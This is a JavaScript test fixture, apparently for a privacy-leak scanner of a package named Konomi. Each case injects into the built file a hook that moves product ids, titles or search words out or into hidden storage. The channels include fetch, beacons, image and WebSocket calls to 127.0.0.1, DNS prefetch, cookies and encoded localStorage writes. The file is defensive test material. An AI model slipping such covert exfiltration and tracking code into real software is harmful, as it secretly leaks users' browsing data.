// Leaks as a careless or a malicious change could bring them into the package: each is added to the text of the built konomi.js
// by the test server, and runs with everything that Konomi itself has. `red`: what the search must say of it;
// `skip`: where an engine has no such place, and why.
//
// The built file and not a build of its own: what is searched is then the package that ships, with one change. The code below stands
// behind Konomi's own; `event` is what konomi.observe was told, `id`, `title` and `words` are taken from it.

/** Runs at each event; what is done on the way out follows Konomi's own writing, which comes when the page is hidden. */
const at = (event) => `
;(() => {
  const told = [];
  const fnv = (text) => { let sum = 0x811c9dc5; for (const byte of new TextEncoder().encode(text)) sum = Math.imul(sum ^ byte, 0x01000193) >>> 0; return sum; };
  const hex = (text) => Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("");
  const base64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
  const leave = (work) => addEventListener("pagehide", work);
  (window.konomi ||= []).push((k) => {
    const { observe } = k;
    k.observe = (event) => {
      const item = event.item ?? event.items?.[0] ?? {};
      const { id = "", title = "" } = item, { query: words = "" } = event;
      told.push(id);
      try { ${event} } catch (error) {}
      return observe.call(k, event);
    };
  });
})();`;

export const LEAKS = [
  { name: "an id by fetch", code: at('void fetch("/pkg/konomi.js?i=" + id)'), red: /request: sku as plain/ },
  { name: "a title by beacon", code: at('navigator.sendBeacon("/pkg/b", title)'), red: /body: title as plain/ },
  {
    name: "an id as the address of a picture on another host",
    code: at('new Image().src = "http://127.0.0.1:9/p.gif?" + base64(title)'),
    red: /page, img\.src: title as base64/,
  },
  {
    name: "a parameter of our own file",
    code: at('void import("/pkg/konomi.live.js?v=" + hex(id)).catch(() => {})'),
    red: /request: sku as hex/,
  },
  {
    name: "a header of our own file",
    code: at('void fetch("/pkg/konomi.wasm", { headers: { "x-k": encodeURIComponent(title) } })'),
    red: /(header|page, fetch): title as percent/,
  },
  {
    name: "an address for the referer",
    // Without `keepalive`: Firefox says of such a request the address with which the page was opened.
    code: at(
      'if (title) { history.replaceState(null, "", "?from=" + encodeURIComponent(title)); void fetch("/pkg/konomi.js"); }',
    ),
    red: /referer: .*an address that the shop has not/,
  },
  { name: "a title into localStorage", code: at('localStorage.setItem("k", title)'), red: /store, localStorage k: / },
  {
    name: "a title, reversed, in Konomi's own text",
    code: at('if (title) leave(() => (localStorage.konomi += [...title].reverse().join("")))'),
    red: /store, localStorage konomi: title as reversed/,
  },
  {
    name: "the order of events in Konomi's own text",
    code: at(
      'leave(() => (localStorage.konomi = (localStorage.konomi ?? "").split(".")[0] + "." + base64(told.map(fnv).join())))',
    ),
    red: /store, localStorage konomi: sku as fnv-1a 32/,
  },
  {
    name: "the time of a look",
    code: at('leave(() => (localStorage.konomi += "." + Math.round(Date.now() / 1000)))'),
    red: /store, localStorage konomi: the moment \d+/,
  },
  {
    name: "a title among the facts of the visit",
    code: at('if (title) leave(() => (sessionStorage["konomi#items"] += base64(title)))'),
    red: /store, sessionStorage konomi#items: .*title as base64/,
  },
  {
    name: "a search word into IndexedDB",
    code: at(
      'if (words) indexedDB.open("k").onupgradeneeded = ({ target }) => target.result.createObjectStore("k").put(words, 1)',
    ),
    red: /store, IndexedDB k k: second search word as plain/,
  },
  {
    name: "a cookie",
    code: at('document.cookie = "k=" + encodeURIComponent(id)'),
    red: /store, cookie: second sku as/,
  },
  { name: "the window's name", code: at("window.name = title"), red: /store, window\.name: .*title as plain/ },
  {
    name: "a cache",
    code: at('if (title) void caches.open("k").then((cache) => cache.put("/k", new Response(base64(title))))'),
    // The page may be gone before it is written.
    red: /store, Cache k: .*title as base64|store: Cache k/,
  },
  {
    name: "the private file system",
    skip: { webkit: "WebKitGTK has no private file system" },
    code: at(
      'if (id) void navigator.storage.getDirectory().then((folder) => folder.getFileHandle("k" + hex(id), { create: true }))',
    ),
    red: /store, file k\w+: .*sku as hex/,
  },
  {
    name: "the state of the history",
    code: at('if (title) history.replaceState({ title }, "")'),
    red: /page: history/,
  },
  {
    name: "a WebSocket",
    code: at('new WebSocket("ws://127.0.0.1:9/" + hex(title))'),
    red: /page, WebSocket: title as hex/,
  },
  {
    name: "an EventSource",
    code: at('new EventSource("/pkg/e?" + id).close()'),
    red: /page, EventSource: sku as plain/,
  },
  {
    name: "an XMLHttpRequest",
    code: at('const ask = new XMLHttpRequest(); ask.open("POST", "/pkg/x"); ask.send(JSON.stringify({ words }))'),
    red: /page, XMLHttpRequest: second search word as plain/,
  },
  {
    name: "a name that is looked up",
    code: at(
      'if (id) document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: "//" + hex(id) + ".invalid" }))',
    ),
    red: /page, link\.href: sku as hex/,
  },
  {
    name: "a message to other tabs",
    code: at('const tabs = new BroadcastChannel("k"); tabs.postMessage({ title }); tabs.close()'),
    red: /page, BroadcastChannel: title as plain/,
  },
  {
    name: "a message to the page's frames",
    code: at("window.postMessage({ words }, location.origin)"),
    red: /page, window\.postMessage: second search word as plain/,
  },
  {
    name: "a form",
    code: at(
      'if (id) { const form = document.createElement("form"); form.action = "/pkg/f?" + id; form.target = "none" + told.length; const frame = document.createElement("iframe"); frame.name = form.target; document.body.append(frame, form); form.submit(); }',
    ),
    red: /page: form/,
  },
  {
    name: "a hash of an id",
    code: at(
      'if (id) void crypto.subtle.digest("SHA-256", new TextEncoder().encode(id)).then((sum) => (sessionStorage.k = btoa(String.fromCharCode(...new Uint8Array(sum)))))',
    ),
    red: /store, sessionStorage k: second sku as sha-256/,
  },
  {
    name: "letters of sixteen bits",
    code: at(
      'sessionStorage.k = btoa([...title].map((letter) => letter + "\\0").join("").replace(/[^\\0-\\xff]/g, "?"))',
    ),
    red: /store, sessionStorage k: .*title as/,
  },
  {
    name: "the visit's profile, with the items in the order in which they were touched, for good",
    code: at("leave(() => (localStorage.konomi = sessionStorage.konomi))"),
    red: [
      /store, localStorage konomi: sku as the engine's key of 4 bytes/,
      /store, localStorage konomi: not the lasting form: its version/,
    ],
  },
  {
    name: "seconds as four bytes behind Konomi's own",
    code: at(
      "leave(() => { const time = new Uint8Array(new Uint32Array([Date.now() / 1000]).buffer); localStorage.konomi = btoa(atob(localStorage.konomi) + String.fromCharCode(...time)); })",
    ),
    red: [
      /store, localStorage konomi: the moment 4 bytes of seconds/,
      /store, localStorage konomi: not the lasting form: \d+ bytes behind its end/,
    ],
  },
  {
    name: "minutes as digits",
    code: at('leave(() => (localStorage.konomi += "." + Math.floor(Date.now() / 60_000)))'),
    red: [
      /store, localStorage konomi: the moment \d{8}$/m,
      /store, localStorage konomi: not the lasting form: it is not the base64/,
    ],
  },
  {
    name: "the time of a look, for the visit",
    code: at('leave(() => (sessionStorage["konomi#items"] += "." + Math.round(Date.now() / 1000)))'),
    red: /store, sessionStorage konomi#items: the moment \d{10}$/m,
  },
  {
    name: "minutes as four bytes behind the visit's own",
    code: at(
      "leave(() => { const time = new Uint8Array(new Uint32Array([Date.now() / 60_000]).buffer); sessionStorage.konomi = btoa(atob(sessionStorage.konomi) + String.fromCharCode(...time)); })",
    ),
    red: /store, sessionStorage konomi: the moment 4 bytes of minutes/,
  },
];
